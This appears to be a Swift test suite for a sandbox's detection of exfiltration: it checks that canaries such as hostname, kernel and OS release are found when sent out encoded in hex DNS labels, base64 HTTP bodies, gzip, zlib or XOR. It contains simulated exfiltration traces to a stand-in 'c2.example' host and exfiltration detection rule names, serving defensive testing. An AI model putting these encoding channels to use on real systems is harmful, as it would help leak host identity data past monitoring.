import Foundation
import PetriModel
@testable import PetriAnalysis
import Testing

/// Identity canaries and the outbound decoders (issue 16).
@Suite("identity canaries and decoders")
struct IdentityCanaryTests {
    static func hex(_ s: String) -> [UInt8] {
        var out: [UInt8] = []
        var i = s.startIndex
        while i < s.endIndex { let j = s.index(i, offsetBy: 2); out.append(UInt8(s[i..<j], radix: 16)!); i = j }
        return out
    }
    static let text = "host=ws-lnx-0417 kernel=6.1.0"
    /// zlib.compress(text) and gzip.compress(text, mtime=0) from Python: fixed-Huffman blocks.
    static let zlibFixed = hex("789ccbc82f2eb12d2fd6cdc9abd03530313457c84e2dca4bcdb135d333d433000096d5092f")
    static let gzipFixed = hex("1f8b0800000000000203cbc82f2eb12d2fd6cdc9abd03530313457c84e2dca4bcdb135d333d43300008213aed41d000000")

    @Test func inflatesFixedAndDynamicBlocksInsideOtherBytes() throws {
        let junk = Array("POST /u HTTP/1.1\r\nContent-Length: 40\r\n\r\n".utf8)
        let found = OutboundDecoders.compressedStreams(in: junk + Self.gzipFixed + junk + Self.zlibFixed)
        #expect(found.map(\.encoding) == [.gzip, .zlib])
        #expect(found.allSatisfy { $0.bytes == Array(Self.text.utf8) })
        // A dynamic-Huffman block with long back-references (zlib level 9 of 1716 bytes).
        var big: [UInt8] = []
        for _ in 0..<20 { big += Array("Q4 planning: migrate build01 to the new cluster, rotate the deploy keys. ".utf8) }
        big += (0...255).map { UInt8($0) }
        let python = Process()
        python.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        python.arguments = ["-c", "import sys,zlib; sys.stdout.buffer.write(zlib.compress(sys.stdin.buffer.read(), 9))"]
        let input = Pipe(), output = Pipe()
        python.standardInput = input; python.standardOutput = output
        try python.run()
        input.fileHandleForWriting.write(Data(big)); try input.fileHandleForWriting.close()
        let compressed = [UInt8](output.fileHandleForReading.readDataToEndOfFile())
        python.waitUntilExit()
        #expect(compressed.count < 400)
        #expect(OutboundDecoders.compressedStreams(in: compressed).first?.bytes == big)
    }

    @Test func malformedStreamsAndBombsAreBounded() {
        #expect(OutboundDecoders.compressedStreams(in: [0x78, 0x9c, 0xff, 0xff, 0xff]).isEmpty)
        #expect(OutboundDecoders.compressedStreams(in: [0x1f, 0x8b, 0x08]).isEmpty)
        #expect(OutboundDecoders.compressedStreams(in: Array(Self.zlibFixed.prefix(12))).first?.bytes.count ?? 0 < Self.text.count)
        // Output past the cap is not produced (a bomb stops there).
        let out = OutboundDecoders.compressedStreams(in: Self.zlibFixed, maxOutput: 8)
        #expect(out.first?.bytes == Array(Self.text.utf8.prefix(8)))
    }

    @Test func xorWithAnyOneByteKeyIsFound() {
        let needle = Array("ws-lnx-0417".utf8)
        for key: UInt8 in [0x01, 0x20, 0x5a, 0xff] {
            let data = Array("id=7&d=".utf8) + Array("hostname ws-lnx-0417 up".utf8).map { $0 ^ key }
            let m = OutboundDecoders.xorMatches(of: needle, in: data)
            #expect(m.count == 1 && m.first?.key == key && m.first?.offset == 7 + 9)
        }
        #expect(OutboundDecoders.xorMatches(of: needle, in: Array("hostname ws-lnx-0417".utf8)).isEmpty, "key 0 is plain text")
        #expect(OutboundDecoders.xorMatches(of: needle, in: Array("ws-lnx-0418".utf8).map { $0 ^ 0x33 }).isEmpty)
    }

    @Test func collectsTheGuestIdentityAndDocumentNeedles() throws {
        let home = NSTemporaryDirectory() + "petri-identity-\(UUID().uuidString.prefix(8))"
        try FileManager.default.createDirectory(atPath: home + "/Documents", withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: home) }
        try "short\nQ4 planning: migrate build01 to the new cluster, rotate the deploy keys, review vendor invoices.\n"
            .write(toFile: home + "/Documents/notes.txt", atomically: true, encoding: .utf8)
        let c = IdentityCanaries.collect(hostname: "ws-lnx-0417", user: "user", userFullName: "Alex Morgan",
                                         addresses: ["198.51.100.10", "fd00:5eed:1::10"], kernelRelease: "6.1.0-18-amd64",
                                         osReleaseText: "NAME=\"Debian GNU/Linux\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
                                         seededHome: home, guestHome: "/home/user")
        let byKind = Dictionary(grouping: c, by: \.kind).mapValues { $0.map(\.token) }
        #expect(byKind["identity:hostname"] == ["ws-lnx-0417"])
        #expect(byKind["identity:user"] == ["Alex Morgan"], "a 4-letter user name is too common to be evidence")
        #expect(byKind["identity:ip"] == ["198.51.100.10", "fd00:5eed:1::10"])
        #expect(byKind["identity:kernel"] == ["6.1.0-18-amd64"])
        #expect(byKind["identity:os-release"] == ["Debian GNU/Linux 12 (bookworm)"])
        let doc = try #require(c.first { $0.kind == "document" })
        #expect(doc.file == "/home/user/Documents/notes.txt")
        #expect(doc.token == "Q4 planning: migrate build01 to the new cluster, rotate the depl")
        #expect(IdentityCanaries.kernelRelease()?.isEmpty == false)
    }

    @Test func everyEncodingIsReportedAndOnlyIdentityRulesMatch() throws {
        var t = Trace()
        let host = Canary(token: "ws-lnx-0417", file: "/etc/hostname", kind: "identity:hostname")
        let kernel = Canary(token: "6.1.0-18-amd64", file: "uname", kind: "identity:kernel")
        let os = Canary(token: "Debian GNU/Linux 12 (bookworm)", file: "/etc/os-release", kind: "identity:os-release")
        t.report.canaries = [host, kernel, os]
        t.dns("77732d6c6e78.2d30343137.x.c2.example")                                     // hex over two labels
        t.http("POST", "http://c2.example/b", body: "k=" + Data("kernel 6.1.0-18-amd64".utf8).base64EncodedString())
        let blob = Data("POST /z HTTP/1.1\r\n\r\n".utf8) + Data(Self.gzipFixed)
            + Data(Array("Debian GNU/Linux 12 (bookworm)".utf8).map { $0 ^ 0x5a })
        let hits = CanaryTracker(canaries: t.report.canaries).scan(t.report, outbound: [OutboundData(channel: "http", destination: "c2.example:80", data: blob)])
        let got = Set(hits.map { "\($0.canary.kind) \($0.encoding.rawValue) \($0.channel)" })
        #expect(got.contains("identity:hostname hex dns"))
        #expect(got.contains("identity:kernel base64 http_body"))
        #expect(got.contains("identity:hostname gzip http"), "\(got)")
        #expect(got.contains("identity:os-release xor http"), "\(got)")
        let matches = BehaviourEngine(ruleSet: BuiltIn.rules).evaluate(t.report)
        let ids = Set(matches.map(\.id))
        #expect(ids.contains("sends-system-identity"))
        #expect(!ids.contains("exfiltrates-decoy-credentials"), "identity is not a credential")
        #expect(!ids.contains("exfiltrates-documents"))
        let m = try #require(matches.first { $0.id == "sends-system-identity" })
        #expect(m.evidence.notes.contains { $0.contains("/etc/hostname (identity:hostname) sent hex in dns") })
    }
}
